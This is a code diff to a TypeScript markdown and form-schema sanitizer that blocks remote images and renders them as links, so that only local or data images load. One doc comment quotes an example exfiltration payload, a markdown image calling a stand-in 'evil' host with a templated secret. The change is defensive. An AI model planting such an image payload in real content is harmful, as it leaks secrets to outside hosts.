@@ -16,16 +16,35 @@ export function safeUrl(url: string): string {
   return SAFE_URL.test(compact) ? url : '#';
 }
 
+/**
+ * Images load by themselves, so an image from another host would tell that host that the task was
+ * opened, and a template in its address (`![x](https://evil/?{{secret}})`) would send it process
+ * data. Only images of this server (relative addresses) and `data:image/…` load; others are shown
+ * as links the user may follow.
+ */
+export function isLocalImage(url: string): boolean {
+  const compact = url.replace(/[\u0000-\u0020\u007f-\u00a0]/g, '');
+  if (/^data:image\//i.test(compact)) return true;
+  try {
+    return new URL(compact, 'http://this-server.invalid/').origin === 'http://this-server.invalid';
+  } catch {
+    return false;
+  }
+}
+
 const escapeText = (text: string) => text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');
 
 const marked = new Marked({
   gfm: true,
   breaks: true,
   walkTokens(token: Token) {
-    if (token.type === 'link' || token.type === 'image') token.href = safeUrl(token.href);
+    if (token.type === 'link') token.href = safeUrl(token.href);
+    if (token.type === 'image' && !isLocalImage(token.href)) token.href = safeUrl(token.href);
   },
   renderer: {
     html: ({ text }) => escapeText(text),
+    // false: marked's own rendering of a local image
+    image: ({ href, text }) => (isLocalImage(href) ? false : `<a href="${escapeText(href)}">${escapeText(text || href)}</a>`),
   },
 });
 
@@ -38,14 +57,27 @@ export function renderSafeMarkdown(markdown: string): string {
 interface Component {
   type?: unknown;
   content?: unknown;
+  source?: unknown;
+  alt?: unknown;
   components?: unknown;
   [key: string]: unknown;
+}
+
+/** An image view as a text view: its markdown image then goes through the rules above (templates in the address included). */
+function imageAsText(component: Component): Component {
+  const { source, alt, ...rest } = component;
+  const address = typeof source === 'string' ? source : '';
+  const label = (typeof alt === 'string' && alt) || 'image';
+  // a FEEL address (`=…`) is computed by form-js where these rules cannot see it: shown, not loaded
+  const text = address.startsWith('=') ? `Image from an expression, not loaded: \`${address.replace(/`/g, "'")}\`` : `![${label.replace(/[[\]]/g, '')}](<${address.replace(/[<>]/g, '')}>)`;
+  return { ...rest, type: 'text', text };
 }
 
 /**
  * The schema with every `html` view turned into a `text` view of the same content, which then
  * shows its markup as literal text instead of running it (form-js feeds `html` views to the page
- * as HTML after its own DOMPurify pass). Nothing is dropped: the content stays visible.
+ * as HTML after its own DOMPurify pass), and every `image` view into a text view with a markdown
+ * image, so that only local images load. Nothing is dropped: the content stays visible.
  * Nested components (groups, dynamic lists) are walked too; the input is not modified.
  */
 export function neutralizeFormSchema<T>(schema: T): T {
@@ -60,6 +92,7 @@ export function neutralizeFormSchema<T>(schema: T): T {
       copy.type = 'text';
       copy.text = typeof component.content === 'string' ? component.content : '';
     }
+    if (component.type === 'image') return imageAsText(copy);
     return copy;
   };
   return walk(schema) as T;
